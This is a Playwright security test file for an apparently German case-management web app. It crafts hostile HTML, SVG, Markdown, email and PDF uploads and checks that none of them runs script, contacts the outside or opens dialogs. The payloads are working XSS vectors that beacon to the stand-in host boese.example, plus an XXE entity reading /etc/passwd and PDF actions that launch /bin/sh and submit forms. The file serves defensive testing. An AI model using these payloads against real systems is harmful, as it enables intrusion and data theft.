// Files that want to act when somebody looks at them: whatever they try, no script of theirs runs, nothing is asked of another
// place, and what they would show as a page is text.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page, Request } from '@playwright/test';
import { testdata } from '../api/support/engine';
import { api, baseUrl, drop, expect, freshPlace, freshWord, login, settled, test, type DroppedFile } from './support/app';

// Some of these files are broken on purpose, and pdf.js says so.
test.use({ provoked: '(404|415)' });

const away = 'https://boese.example';
const act = (how: string): string => `window.top.__gehackt = '${how}'; fetch('${away}/${how}')`;
const html = `<!doctype html><html><head><base href="${away}/"><meta http-equiv="refresh" content="0;url=${away}/refresh"><link rel="stylesheet" href="${away}/stil.css"><title>Bescheid</title>
<style>@import url(${away}/import.css); body { background: url(${away}/hintergrund.png) }</style></head>
<body onload="${act('onload')}"><script>${act('script')}</script><img src="${away}/bild.png" onerror="${act('onerror')}"><svg onload="${act('svg')}"></svg>
<iframe src="javascript:${act('iframe')}"></iframe><iframe srcdoc="<script>parent.__gehackt='srcdoc'</script>"></iframe><object data="${away}/objekt"></object><embed src="${away}/embed">
<form action="${away}/formular"><input autofocus onfocus="${act('focus')}"></form><a href="javascript:${act('verweis')}">Bitte klicken</a><details open ontoggle="${act('toggle')}"></details>Sehr geehrte Damen und Herren</body></html>`;
const svg = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${act('svg-onload')}" width="300" height="200">
<script>${act('svg-script')}</script><image xlink:href="${away}/svg-bild.png" width="10" height="10"/><use xlink:href="${away}/svg.svg#x"/><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${act('svg-iframe')}"/></foreignObject>
<a xlink:href="javascript:${act('svg-verweis')}"><text x="20" y="40">Lageplan &x;</text></a></svg>`;

/** A PDF that asks its reader to run JavaScript, to open an address, to start a program and to send a form. */
function pdf(): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('${away}/openaction'\\); ${act('pdf').replaceAll('(', '\\(').replaceAll(')', '\\)')}) >> /AA << /WC << /S /URI /URI (${away}/schliessen) >> >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /AA << /O << /S /URI /URI (${away}/seite) >> >> /Annots [6 0 R 7 0 R 8 0 R] >>`,
    '<< /Length 52 >>\nstream\nBT /F 18 Tf 30 120 Td (Ihr Bescheid liegt bei) Tj ET\nendstream',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\(1\\)//)] >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:${act('pdf-verweis').replaceAll('(', '\\(').replaceAll(')', '\\)')}) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (/bin/sh) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (x) /Rect [0 0 300 200] /A << /S /SubmitForm /F << /FS /URL /F (${away}/senden) >> >> >>`,
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((body, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const payloads = join(testdata, 'malicious/payloads-all-the-pdfs');
const files: DroppedFile[] = [
  { name: 'bescheid.html', type: 'text/html', bytes: Buffer.from(html) },
  { name: 'bescheid.xhtml', type: 'application/xhtml+xml', bytes: Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${act('xhtml')}"><script>${act('xhtml-script')}</script>Guten Tag</body></html>`) },
  { name: 'lageplan.svg', type: 'image/svg+xml', bytes: Buffer.from(svg) },
  { name: 'notiz.md', type: 'text/markdown', bytes: Buffer.from(`# Notiz\n\n<script>${act('markdown')}</script>\n![x](${away}/markdown.png)\n[hier](javascript:${act('md-verweis')})\n`) },
  { name: 'text.txt', type: 'text/plain', bytes: Buffer.from(`<script>${act('text')}</script><img src=x onerror="${act('text-bild')}">`) },
  { name: 'brief.eml', type: 'message/rfc822', bytes: Buffer.from(`From: a@boese.example\r\nTo: amt@stadt.example\r\nSubject: <img src=x onerror="${act('betreff')}">\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}`) },
  { name: 'antrag.pdf', type: 'application/pdf', bytes: pdf() },
  ...(existsSync(payloads) ? readdirSync(payloads).map((name) => ({ name, type: 'application/pdf', bytes: readFileSync(join(payloads, name)) })) : []),
];

function watch(page: Page): { left: string[]; dialogs: string[] } {
  const seen = { left: [] as string[], dialogs: [] as string[] };
  const own = new URL(baseUrl()).origin;
  page.context().on('request', (request: Request) => {
    const address = request.url();
    // What the browser's own reader of PDF loads of itself goes nowhere.
    if (!address.startsWith(own) && !/^(data|blob|chrome|chrome-extension):/.test(address)) seen.left.push(address);
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return seen;
}
const hacked = (page: Page): Promise<unknown> => page.evaluate(() => (window as unknown as { __gehackt?: string }).__gehackt);

for (const file of files) {
  test(`${file.name} can do nothing`, async ({ page }) => {
    const seen = watch(page);
    await login(page);
    const word = freshWord('feindlich');
    const { vorgang } = await freshPlace(page, `Feindlich ${word}`);
    await page.goto(`${baseUrl()}/vorgaenge/${vorgang.id}`);
    await drop(page, '.zone', [file]);
    await expect.poll(async () => (await api<{ eintraege: unknown[] }>(page, 'GET', `/vorgaenge/${vorgang.id}/dokumente`)).eintraege.length).toBeGreaterThan(0);
    const { eintraege } = await api<{ eintraege: { id: string }[] }>(page, 'GET', `/vorgaenge/${vorgang.id}/dokumente`);
    const id = eintraege[0]?.id ?? '';
    await page.goto(`${baseUrl()}/vorgaenge/${vorgang.id}`);
    await settled(page);
    await page.goto(`${baseUrl()}/dokumente/${id}`);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await settled(page);
    // Whatever it has to click on is clicked.
    const desk = page.locator('.desk').first();
    if (await desk.isVisible()) await desk.click({ position: { x: 150, y: 100 }, force: true });
    expect(await hacked(page)).toBeUndefined();
    expect(page.url()).toBe(`${baseUrl()}/dokumente/${id}`);

    // The bytes themselves, opened as a page of their own: a page that may not run, or a download.
    const other = await page.context().newPage();
    const there = watch(other);
    await other.goto(`${baseUrl()}/api/dokumente/${id}/versionen/1/inhalt`).catch((error: Error) => expect(error.message).toMatch(/Download is starting|ERR_ABORTED|ERR_BLOCKED/));
    await other.waitForLoadState('domcontentloaded').catch(() => undefined);
    expect(await other.evaluate(() => (window as unknown as { __gehackt?: string }).__gehackt).catch(() => undefined)).toBeUndefined();
    await other.close();
    expect([...seen.left, ...there.left]).toEqual([]);
    expect([...seen.dialogs, ...there.dialogs]).toEqual([]);
  });
}
